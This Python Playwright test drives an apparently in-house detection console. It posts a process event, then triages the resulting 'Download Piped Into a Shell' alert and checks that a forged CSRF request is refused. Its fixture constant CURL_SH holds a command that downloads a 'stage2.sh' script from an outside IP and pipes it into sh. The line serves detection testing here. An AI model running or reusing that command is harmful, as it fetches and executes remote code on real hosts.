"""An analyst in a real browser: alert queue → alert → triage it → its incident."""

from __future__ import annotations

from pathlib import Path

import pytest
from playwright.sync_api import Browser, Page, expect

from tests.support import VigilServer, enroll_raw, post_batch, process_event

pytestmark = pytest.mark.browser

CURL_SH = "sh -c 'curl -fsSL http://203.0.113.9/stage2.sh | sh'"


def _sign_in(page: Page, server: VigilServer) -> None:
    page.goto("/login")
    page.get_by_label("User name").fill("admin")
    page.get_by_label("Password").fill(server.admin_password)
    page.get_by_role("button", name="Sign in").click()
    expect(page).to_have_url(f"{server.url}/")


def test_triage_an_alert_and_open_its_incident(
    sqlite_server: VigilServer, chromium: Browser, tmp_path: Path
) -> None:
    server = sqlite_server
    dev = enroll_raw(server, server.onboarding_package()["token"], "web-09").json()
    ev = process_event(dev["device_id"], 1, ProcessCommandLine=CURL_SH, FileName="sh", FolderPath="/usr/bin/dash")
    assert post_batch(server, dev["credential"], [ev]).status_code == 200

    context = chromium.new_context(base_url=server.url, viewport={"width": 1400, "height": 1000})
    page = context.new_page()
    try:
        _sign_in(page, server)
        page.locator("header nav").get_by_role("link", name="Alerts").click()
        queue = page.locator("#alerts")
        expect(queue.get_by_role("link", name="web-09")).to_be_visible()
        queue.get_by_role("link", name="Download Piped Into a Shell").click()
        expect(page.get_by_role("heading", name="Download Piped Into a Shell")).to_be_visible()
        expect(page.locator("#evidence").get_by_text(CURL_SH, exact=True)).to_be_visible()

        # The triage form, not the response dialogs (each has its own comment field).
        manage = page.locator("form.manage")
        manage.get_by_label("Status").select_option("InProgress")
        manage.get_by_label("Classification").select_option("TruePositive")
        manage.get_by_label("Assign to me").check()
        manage.get_by_label("Comment").fill("Contained: host pulled from the load balancer")
        manage.get_by_role("button", name="Save").click()
        history = page.locator("#comments")
        expect(history.get_by_text("Contained: host pulled from the load balancer")).to_be_visible()
        expect(history.get_by_text("status: New → InProgress")).to_be_visible()
        expect(page.get_by_text("assigned to admin")).to_be_visible()
        page.screenshot(path=str(tmp_path / "alert-page.png"), full_page=True)

        page.get_by_role("link", name="#1").click()
        expect(page.get_by_role("heading", name="Execution incident on web-09")).to_be_visible()
        expect(page.locator("#incident-alerts").get_by_text("InProgress")).to_be_visible()

        # A forged form (wrong CSRF token) from the signed-in browser changes nothing.
        alert_url = page.locator("#incident-alerts a").first.get_attribute("href")
        status = page.evaluate(
            """url => fetch(url, {method: "POST", redirect: "manual",
                body: new URLSearchParams({csrf: "forged", status: "Resolved"})}).then(r => r.status)""",
            alert_url,
        )
        assert status == 403
    finally:
        context.close()
    with server.client(server.admin_token()) as c:
        alert = c.get("/api/alerts").json()["value"][0]
    assert alert["status"] == "InProgress" and alert["classification"] == "TruePositive"
    assert alert["assignedTo"] == "admin"
